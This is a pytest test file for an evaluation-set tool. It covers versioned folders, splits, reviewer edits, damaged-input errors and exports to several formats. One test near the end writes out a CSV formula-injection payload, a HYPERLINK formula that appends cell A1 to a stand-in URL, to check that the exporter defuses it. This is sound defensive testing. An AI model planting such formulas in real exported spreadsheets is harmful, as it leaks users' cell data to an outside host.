"""Sets on disk: versions, splits, reviews, exports; and files that are not what they should be."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from kaijuan.errors import EvalDataError, NotFoundError, StoreError, UsageError
from kaijuan.evals.making.export import export
from kaijuan.evals.making.folder import (
    corpus_row,
    partial_folder,
    read_facts,
    read_items,
    read_reviewed,
    read_splits,
    render,
    version_folder,
    versions_of,
    write_splits,
    write_version,
)
from kaijuan.evals.making.formats import Format
from kaijuan.evals.making.items import Item, Kind, Split
from kaijuan.evals.making.reviews import Action, Review, append, check_edit, find, moment, read_reviews
from kaijuan.evals.sets import load_set

TEXT = "The mooring fee is 45 euros a night.\u2028Guests pay in cash."


def item(id: str, split: Split = Split.TRAIN, kind: Kind = Kind.SINGLE, **more: object) -> Item:
    answers = () if kind is Kind.UNANSWERABLE else ("45 euros",)
    piece = {"document": "quay.md", "source": "file:///quay.md", "version_id": "v", "version": 1, "start": 0, "end": 36}
    fields: dict[str, object] = {
        "id": id,
        "kind": kind,
        "split": split,
        "language": "en",
        "question": f"How much is the fee ({id})?",
        "answers": answers,
        "evidence": ({**piece, "quote": TEXT[:36]},),
        "how": "en/how-much",
    }
    return Item(**(fields | more))  # type: ignore[arg-type] # the fields that a test names


ITEMS = [
    item("aaaa11112222"),
    item("bbbb11112222", Split.DEV, also=("other.md",)),
    item("cccc11112222", Split.TEST, answers=("45 euros; 9 am",), parts=("45 euros", "9 am")),
    item("dddd11112222", kind=Kind.UNANSWERABLE, extra={"absent": {"phrases": ["x"]}}),
]


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return write(tmp_path / "set")


def write(root: Path, version: int = 1, items: list[Item] = ITEMS) -> Path:
    partial = partial_folder(root, version)
    rows = [corpus_row(id, "Quay", TEXT, f"file:///{id}") for id in ("quay.md", "other.md")]
    (partial / "corpus.jsonl").write_text("".join(rows), encoding="utf-8")
    write_version(root, partial, {"format": 1, "version": version}, items)
    return root


def test_each_split_is_a_set_that_is_read_as_any_other(root: Path) -> None:
    train = load_set(root / "v1" / "train")
    assert [query.id for query in train.queries] == ["aaaa11112222", "dddd11112222"]
    assert [query.answerable for query in train.queries] == [True, False]
    assert train.queries[0].answers == ("45 euros",)
    assert train.grades == {"aaaa11112222": {"quay.md": 2}}
    assert train.problems == ()
    assert load_set(root / "v1" / "dev").grades == {"bbbb11112222": {"other.md": 1, "quay.md": 2}}


def test_the_folder_of_a_set_leads_to_its_splits(root: Path) -> None:
    assert load_set(root / "v1" / "dev").name == "set-v1-dev"
    for folder in (root, root / "v1"):
        with pytest.raises(EvalDataError, match="one a split") as caught:
            load_set(folder)
        assert str(root / "v1" / "train") in caught.value.hint


def test_parts_of_an_answer_stay_parts(root: Path) -> None:
    by_id = {query.id: query for query in load_set(root / "v1" / "test").queries}
    assert by_id["cccc11112222"].fields["answer_parts"] == ["45 euros", "9 am"]
    assert by_id["cccc11112222"].answers == ("45 euros; 9 am",)
    append(root, [said("cccc11112222", Action.EDIT, answers=("Free.",))])
    assert {each.id: each.parts for each in read_reviewed(root)}["cccc11112222"] == ()


def test_items_come_back_as_they_were(root: Path) -> None:
    assert read_items(version_folder(root)) == ITEMS


def test_versions_lie_side_by_side(root: Path) -> None:
    write(root, 2, ITEMS[:2])
    assert versions_of(root) == [1, 2]
    assert version_folder(root).name == "v2"
    assert len(read_items(version_folder(root, 1))) == 4
    with pytest.raises(EvalDataError, match="no version 3"):
        version_folder(root, 3)


def test_a_version_is_never_written_over(root: Path) -> None:
    with pytest.raises(StoreError, match="Another run may"):
        write(root, 1)


def test_what_a_stopped_run_left_is_no_version(root: Path) -> None:
    (partial_folder(root, 2) / "items.jsonl").write_text("{", encoding="utf-8")
    assert versions_of(root) == [1]
    write(root, 2)
    assert versions_of(root) == [1, 2]


def test_a_folder_that_is_no_set_is_named(tmp_path: Path) -> None:
    for folder in (tmp_path, tmp_path / "missing"):
        with pytest.raises(EvalDataError, match="is no set made by kaijuan"):
            version_folder(folder)


@pytest.mark.parametrize("damage", ['{"id": "x"}', "{", "[]", '{"id": 1, "kind": "riddle"}'])
def test_a_damaged_line_is_named(root: Path, damage: str) -> None:
    path = root / "v1" / "items.jsonl"
    path.write_text(path.read_text(encoding="utf-8") + damage + "\n", encoding="utf-8")
    with pytest.raises(EvalDataError, match="Line 5"):
        read_items(version_folder(root))


def test_a_set_of_another_format_is_refused(root: Path) -> None:
    (root / "v1" / "set.json").write_text('{"format": 99, "version": 1}', encoding="utf-8")
    with pytest.raises(EvalDataError, match="format 99"):
        read_facts(version_folder(root))


def test_splits_are_remembered_with_names_of_every_kind(tmp_path: Path) -> None:
    names = ["file:///a.md", "a\tb", "line\nbreak", "back\\slash", "back\\ttab", "文件"]
    rows = {name: (f"family of {name}", split) for name, split in zip(names, list(Split) * 2, strict=True)}
    write_splits(tmp_path, rows)
    known = read_splits(tmp_path)
    assert known.documents == {name: split for name, (_, split) in rows.items()}
    assert known.families == dict(rows.values())


def test_a_split_once_written_is_never_changed(tmp_path: Path) -> None:
    write_splits(tmp_path, {"a": ("f", Split.TRAIN)})
    write_splits(tmp_path, {"a": ("f", Split.TEST), "b": ("g", Split.DEV)})
    assert read_splits(tmp_path).documents == {"a": Split.TRAIN, "b": Split.DEV}


def test_a_damaged_list_of_splits_is_not_guessed_at(tmp_path: Path) -> None:
    (tmp_path / "splits.tsv").write_text("source\tfamily\tsplit\na\tf\tnowhere\n", encoding="utf-8")
    with pytest.raises(EvalDataError, match="Line 2"):
        read_splits(tmp_path)


def said(id: str, action: Action, **more: object) -> Review:
    return Review(at=moment(0), by="Lena", item=id, action=action, **more)  # type: ignore[arg-type] # as a test names


def test_reviews_are_added_and_the_last_word_counts(root: Path) -> None:
    append(root, [said("aaaa11112222", Action.APPROVE, note="好"), said("bbbb11112222", Action.REJECT)])
    first = (root / "reviews.jsonl").read_text(encoding="utf-8")
    append(root, [said("bbbb11112222", Action.EDIT, question="How much a night?", answers=("45 euros", "€45"))])
    assert (root / "reviews.jsonl").read_text(encoding="utf-8").startswith(first)
    found = {each.id: each for each in read_reviewed(root)}
    assert found["aaaa11112222"].status == "approved"
    assert found["bbbb11112222"].status == "approved"
    assert found["bbbb11112222"].question == "How much a night?"
    assert found["bbbb11112222"].answers == ("45 euros", "€45")
    assert found["cccc11112222"].status == ""
    assert read_reviews(root)[0].at == "1970-01-01T00:00:00+00:00"


def test_the_split_shows_what_reviews_say(root: Path) -> None:
    append(root, [said("aaaa11112222", Action.REJECT), said("bbbb11112222", Action.EDIT, question="How much?")])
    render(version_folder(root), read_reviewed(root))
    rows = (root / "v1" / "train" / "queries.jsonl").read_text(encoding="utf-8")
    assert "aaaa11112222" not in rows
    assert load_set(root / "v1" / "dev").queries[0].text == "How much?"
    assert read_items(version_folder(root)) == ITEMS  # what was made stays


def test_a_torn_last_line_does_not_swallow_the_next(root: Path) -> None:
    append(root, [said("aaaa11112222", Action.APPROVE)])
    path = root / "reviews.jsonl"
    path.write_text(path.read_text(encoding="utf-8").rstrip("\n"), encoding="utf-8")
    append(root, [said("bbbb11112222", Action.APPROVE)])
    assert [review.item for review in read_reviews(root)] == ["aaaa11112222", "bbbb11112222"]


@pytest.mark.parametrize("line", ["{", '{"at": "now"}', '{"at": "", "by": "", "item": "", "action": "burn"}', "[]"])
def test_a_line_that_is_no_review_is_named(root: Path, line: str) -> None:
    (root / "reviews.jsonl").write_text(line + "\n", encoding="utf-8")
    with pytest.raises(EvalDataError, match="Line 1"):
        read_reviews(root)


def test_edits_that_make_no_sense_are_refused() -> None:
    with pytest.raises(UsageError, match="Nothing was changed"):
        check_edit(ITEMS[0], None, None)
    with pytest.raises(UsageError, match="cannot be blank"):
        check_edit(ITEMS[0], "  ", None)
    with pytest.raises(UsageError, match="cannot be blank"):
        check_edit(ITEMS[0], None, [" "])
    with pytest.raises(UsageError, match="do not answer"):
        check_edit(ITEMS[3], None, ["45"])
    check_edit(ITEMS[3], "How much?", None)


def test_ids_may_be_shortened_while_they_are_one() -> None:
    items = [*ITEMS, item("aaaa99999999")]
    assert find(items, "bbbb").id == "bbbb11112222"
    assert find(items, "aaaa11112222").id == "aaaa11112222"
    with pytest.raises(UsageError, match="could be 2"):
        find(items, "aaaa")
    with pytest.raises(NotFoundError):
        find(items, "zzzz")
    with pytest.raises(NotFoundError):
        find(items, "bbb")


def test_beir_with_several_splits_keeps_them_apart(root: Path, tmp_path: Path) -> None:
    export(root / "v1", ITEMS, tmp_path / "beir", Format.BEIR)
    assert [query.id for query in load_set(tmp_path / "beir" / "dev").queries] == ["bbbb11112222"]
    export(root / "v1", ITEMS[1:2], tmp_path / "one", Format.BEIR)
    assert load_set(tmp_path / "one").grades == {"bbbb11112222": {"other.md": 1, "quay.md": 2}}


def test_json_lines_and_ragas_rows(root: Path, tmp_path: Path) -> None:
    export(root / "v1", ITEMS, tmp_path / "set.jsonl", Format.JSONL)
    rows = [json.loads(line) for line in (tmp_path / "set.jsonl").read_text(encoding="utf-8").split("\n") if line]
    assert [row["id"] for row in rows] == [each.id for each in ITEMS]
    export(root / "v1", ITEMS, tmp_path / "ragas.jsonl", Format.RAGAS)
    rows = [json.loads(line) for line in (tmp_path / "ragas.jsonl").read_text(encoding="utf-8").split("\n") if line]
    assert rows[0]["reference_contexts"] == [TEXT[:36]]
    assert rows[0]["reference"] == "45 euros"
    assert rows[3]["reference_contexts"] == []


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "  =", "＝", "＠"])
def test_no_cell_of_a_table_is_run_as_a_formula(root: Path, tmp_path: Path, start: str) -> None:
    hostile = f'{start}HYPERLINK("https://example.org?"&A1)'
    export(root / "v1", [item("aaaa", question=hostile, answers=(hostile,))], tmp_path / "set.csv", Format.CSV)
    data = (tmp_path / "set.csv").read_bytes().decode("utf-8-sig")
    head, row = csv.reader(io.StringIO(data, newline=""))
    assert row[head.index("question")] == f"'{hostile}"
    assert row[head.index("answers")] == f"'{hostile}"


def test_nothing_is_overwritten_and_nothing_is_no_export(root: Path, tmp_path: Path) -> None:
    (tmp_path / "there.csv").write_text("mine", encoding="utf-8")
    with pytest.raises(UsageError, match="is there already"):
        export(root / "v1", ITEMS, tmp_path / "there.csv", Format.CSV)
    assert (tmp_path / "there.csv").read_text(encoding="utf-8") == "mine"
    with pytest.raises(UsageError, match="No question is left"):
        export(root / "v1", [], tmp_path / "none.csv", Format.CSV)
